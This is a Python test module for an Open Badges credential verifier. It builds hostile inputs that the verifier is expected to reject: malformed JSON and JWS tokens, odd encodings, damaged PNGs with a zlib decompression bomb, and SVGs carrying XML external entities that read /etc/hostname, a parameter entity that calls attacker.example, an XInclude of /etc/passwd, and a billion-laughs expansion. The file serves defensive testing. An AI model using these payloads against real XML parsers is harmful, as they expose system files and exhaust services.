"""What is no badge, is damaged, or is made to hurt whoever opens it (threats A7, C7, E1 to E6)."""

from __future__ import annotations

import zlib
from typing import Any

from openbadges_issuer.errors import Problem
from tests.hostile import forge
from tests.hostile.cases.case import (
    NOT_A_BADGE,
    SIGNATURE_INVALID,
    Rows,
    case,
    unsupported,
)
from tests.hostile.forge import badge, claims, header, itxt, jws, png, sign, token

GOOD = forge.dumps(sign(badge())).decode()
TOKEN = token(badge())
HEAD, PAYLOAD, SIGNATURE = TOKEN.split(".")
BODY = "<openbadges:credential>{}</openbadges:credential>"
NAMESPACE = "https://purl.imsglobal.org/ob/v3p0"
CLR_NAMESPACE = "https://purl.imsglobal.org/clr/v2p0"


def rows() -> Rows:
    yield from json_that_programs_read_differently()
    yield from other_encodings()
    yield from no_badges()
    yield from other_credentials()
    yield from no_compact_tokens()
    yield from pngs()
    yield from svgs()


def json_with(members: str) -> str:
    """Write a signed badge with some JSON text put in front of its members."""
    return "{" + members + "," + GOOD[1:]


def json_that_programs_read_differently() -> Rows:
    """A7."""
    for name, text in {
        "a duplicate member": json_with('"id":"https://badges.example/other"'),
        "a duplicate member below": GOOD.replace('"hashed":true', '"hashed":false,"hashed":true'),
        "a duplicate by escape": json_with('"n\\u0061me":"Other"'),
        "a duplicate proof": json_with('"proof":[]'),
        "a duplicate behind": GOOD[:-1] + ',"name":"Doctor of Education"}',
        "NaN": json_with('"x":NaN'),
        "Infinity": json_with('"x":-Infinity'),
        "a huge integer": json_with(f'"x":{"9" * 5_000}'),
        "2^53": json_with('"x":9007199254740992'),
        "a huge number": json_with('"x":1e999'),
        "half of a surrogate pair": json_with('"x":"\\ud83d"'),
        "half of a surrogate pair in a name": json_with('"\\udc00":1'),
        "half of a surrogate pair, not escaped": GOOD.replace("Flipped", "Flip\ud83dped"),
        "a comment": GOOD.replace("{", "{/* */", 1),
        "a comma too many": GOOD[:-1] + ",}",
        "single quotes": GOOD.replace('"', "'"),
        "a line break in a text": GOOD.replace("Flipped", "Flip\nped"),
        "something behind": GOOD + "{}",
        "two badges": GOOD + "\n" + GOOD,
        "cut short": GOOD[:-1],
        "cut in the middle": GOOD[: len(GOOD) // 2],
        "deep": json_with('"x":' + "[" * 100_000),
        "deep and whole": json_with('"x":' + "[" * 41 + "]" * 41),
        "many values": json_with('"x":[' + "0," * 60_000 + "0]"),
        "a leading zero": json_with('"x":01'),
        "a byte order mark": "\ufeff" + GOOD,
        "too large": json_with(f'"x":"{"a" * 2_000_000}"'),
    }.items():
        yield case("A7", name, text, NOT_A_BADGE)


def other_encodings() -> Rows:
    """A7."""
    good = GOOD.encode()
    for name, data in {
        "UTF-16": GOOD.encode("utf-16"),
        "UTF-16 without its mark": GOOD.encode("utf-16-le"),
        "UTF-32": GOOD.encode("utf-32"),
        "Latin-1": good.replace(b"Flipped", b"Flipp\xe9d"),
        "an overlong letter": good.replace(b"Flipped", b"Fl\xc0\xb1pped"),
        "surrogates in UTF-8": good.replace(b"Flipped", b"\xed\xa0\xbd\xed\xb8\x80"),
        "a zero behind": good + b"\0",
        "a zero before": b"\0" + good,
    }.items():
        yield case("A7", name, data, NOT_A_BADGE)


def no_badges() -> Rows:
    """E5: what people send by mistake, and what only begins as something else."""
    good = GOOD.encode()
    for name, data in {
        "nothing": b"",
        "white space": b" \r\n\t ",
        "a word": b"badge",
        "a number": b"7",
        "a text in quotes": b'"' + TOKEN.encode() + b'"',
        "an empty object": b"{}",
        "other JSON": b'{"name":"Flipped classroom","type":"Course"}',
        "a list with a badge": b"[" + good + b"]",
        "a PDF": b"%PDF-1.7\n" + good,
        "a ZIP": b"PK\x03\x04" + good,
        "a JPEG": b"\xff\xd8\xff\xe0" + good,
        "a GIF": b"GIF89a" + good,
        "a WebP": b"RIFF\x04\0\0\0WEBP" + good,
        "a page": b"<!DOCTYPE html><html><script>" + good + b"</script></html>",
        "a page without doctype": b"\n<html>" + good,
        "a link": f"https://{forge.HOST}/b/7Q2M-XK4T-93PD".encode(),
        "every byte": bytes(range(256)),
        "50,000 brackets": b"[" * 50_000,
        "two million letters": b"e" * 2_000_000,
    }.items():
        yield case("E5", name, data, NOT_A_BADGE)


def other_credentials() -> Rows:
    """Known for what they are, and not called forged."""
    older = {
        "@context": "https://w3id.org/openbadges/v2",
        "type": "Assertion",
        "id": "https://badges.example/assertions/1",
        "recipient": {"type": "email", "hashed": False, "identity": forge.TEACHER},
        "badge": "https://badges.example/badges/1",
        "verification": {"type": "hosted"},
        "issuedOn": "2020-01-01T00:00:00Z",
    }
    answer = unsupported("format", Problem.OPEN_BADGES_2)
    yield case("E5", "an assertion of Open Badges 2.0", older, answer)
    both = [*badge()["@context"], "https://w3id.org/openbadges/v2"]
    passed_off = {**badge(**{"@context": both}), "proof": [forge.proof_of(badge())]}
    yield case("E5", "a badge passed off as version 2", passed_off, answer)
    answer = unsupported("schema", Problem.CREDENTIAL_UNSUPPORTED)
    yield case("E5", "a signed status list", sign(forge.status_list()), answer)


def no_compact_tokens() -> Rows:
    """C7."""
    key = forge.DISTRICT_KEY
    for name, data in {
        "two parts": f"{HEAD}.{PAYLOAD}",
        "four parts": f"{TOKEN}.x",
        "encrypted (five parts)": f"{TOKEN}.{PAYLOAD}.{SIGNATURE}",
        "with disclosures": f"{TOKEN}~WyJzYWx0IiwibmFtZSIsIngiXQ~",
        "a detached payload": f"{HEAD}..{SIGNATURE}",
        "padded": f"{HEAD}.{PAYLOAD}=.{SIGNATURE}",
        "the other alphabet": f"{HEAD}.{PAYLOAD}+/.{SIGNATURE}",
        "line breaks inside": f"{HEAD}.\n{PAYLOAD}.{SIGNATURE}",
        "a space inside": f"{HEAD} .{PAYLOAD}.{SIGNATURE}",
        "cut in the payload": TOKEN[: len(HEAD) + 50],
        "a payload that is no object": jws(header(), [badge()], key),
        "a payload that is no JSON": jws(header(), b"hello", key),
        "a payload that is no UTF-8": jws(header(), b'{"a":"\xff"}', key),
        "a compressed payload": jws(header(), zlib.compress(forge.dumps(claims(badge()))), key),
        "a duplicate in the payload": jws(
            header(), b'{"iss":"did:web:other.example",' + forge.dumps(claims(badge()))[1:], key
        ),
        "a duplicate in the header": jws(
            b'{"alg":"none",' + forge.dumps(header())[1:], claims(badge())
        ),
        "a header that is no object": jws(["EdDSA"], claims(badge()), key),
        "a huge header": token(badge(), kid="did:web:" + "a" * 20_000),
        "a deep payload": jws(header(), b'{"type":' + b"[" * 5_000 + b"]" * 5_000 + b"}", key),
        "JSON serialization": forge.dumps(
            {"payload": PAYLOAD, "signatures": [{"protected": HEAD, "signature": SIGNATURE}]}
        ),
        "flattened JSON serialization": forge.dumps(
            {"payload": PAYLOAD, "protected": HEAD, "signature": SIGNATURE}
        ),
        "unused bits in the payload": (
            f"{HEAD}.{PAYLOAD[:-1]}{chr(ord(PAYLOAD[-1]) + 1)}.{SIGNATURE}"
        ),
    }.items():
        yield case("C7", name, data, NOT_A_BADGE)


def pngs() -> Rows:
    """E1, E2, E5."""
    good = GOOD.encode()
    whole = png(itxt(good))
    bomb = b"openbadgecredential\0\1\0\0\0" + zlib.compress(b" " * 50_000_000)
    for threat, name, data in (
        ("E5", "a PNG without a badge", png()),
        ("E2", "two badges in a PNG", png(itxt(good), itxt(good))),
        ("E2", "a badge and a CLR", png(itxt(good), itxt(good, b"clrcredential"))),
        ("E2", "the badge behind the end", png() + itxt(good)),
        ("E1", "a wrong checksum", whole.replace(b"Flipped", b"Flopped")),
        ("E1", "cut short", whole[:-20]),
        ("E1", "a chunk longer than the file", png()[:33] + b"\x7f\xff\xff\xffiTXt" + good),
        ("E1", "a bomb", png(forge.chunk(b"iTXt", bomb))),
        ("E1", "200,000 chunks", b"\x89PNG\r\n\x1a\n" + forge.chunk(b"tEXt", b"") * 200_000),
        ("E1", "zeros without end", b"\x89PNG\r\n\x1a\n" + b"\0" * 4_900_000),
        ("E1", "more than 5 MB", png(itxt(good)) + b"\0" * 5_000_000),
    ):
        yield case(threat, name, data, NOT_A_BADGE)
    forged = png(itxt(good.replace(b"Flipped", b"Flopped")))
    yield case("E2", "a PNG with a forged badge", forged, SIGNATURE_INVALID)


def svg(*elements: str, ns: str = NAMESPACE) -> bytes:
    open_, rest = forge.SVG.decode().split(">", 1)
    return f'{open_} xmlns:openbadges="{ns}">{"".join(elements)}{rest}'.encode()


def svgs() -> Rows:
    """E2, E3, E5, E6."""
    whole = svg(BODY.format(GOOD))
    half = len(GOOD) // 2
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 9))
    laughs = f'<!DOCTYPE svg [<!ENTITY e0 "ha">{entities}]>'.encode()

    def declared(doctype: bytes, inside: str = "&x;") -> bytes:
        return doctype + svg(BODY.format(inside))

    hidden = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
    both = f'<openbadges:credential verify="{TOKEN}">{GOOD}</openbadges:credential>'
    cases: dict[str, tuple[str, Any]] = {
        "an SVG without a badge": ("E5", forge.SVG),
        "two badges in an SVG": ("E2", svg(BODY.format(GOOD), BODY.format(GOOD))),
        "attribute and body differ": ("E2", svg(both)),
        "a badge and a CLR in an SVG": (
            "E2",
            svg(BODY.format(GOOD), f'<c:credential xmlns:c="{CLR_NAMESPACE}">{{}}</c:credential>'),
        ),
        "another namespace": ("E2", svg(BODY.format(GOOD), ns="https://attacker.example/ns")),
        "no SVG at all": ("E5", whole.replace(b"w3.org/2000", b"w3.org/2001")),
        "an entity": ("E3", declared(b'<!DOCTYPE svg [<!ENTITY x "y">]>')),
        "an external entity": (
            "E3",
            declared(b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'),
        ),
        "a parameter entity": (
            "E3",
            declared(b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://attacker.example/">%x;]>', "x"),
        ),
        "a billion laughs": ("E3", declared(laughs, "&e8;")),
        "an include": ("E3", svg(BODY.format(hidden))),
        "UTF-16": ("E3", svg(BODY.format("x")).decode().encode("utf-16")),
        "UTF-7": ("E3", b'<?xml version="1.0" encoding="UTF-7"?>' + whole),
        "100,000 elements deep": ("E3", svg("<g>" * 100_000)),
        "cut short": ("E3", whole[:-20]),
        "an element inside the badge": ("E6", svg(BODY.format(f"<g>{GOOD}</g>"))),
        "a badge in pieces, one in an element": (
            "E6",
            svg(BODY.format(f"{GOOD[:half]}<g>{GOOD[half:]}</g>")),
        ),
    }
    for name, (threat, data) in cases.items():
        yield case(threat, name, data, NOT_A_BADGE)
    forged = svg(BODY.format(GOOD.replace("Flipped", "Flopped")))
    yield case("E2", "an SVG with a forged badge", forged, SIGNATURE_INVALID)
    changed = GOOD.replace("Flipped", "Fl<!-- i -->opped")
    yield case("E6", "a comment in a forged badge", svg(BODY.format(changed)), SIGNATURE_INVALID)
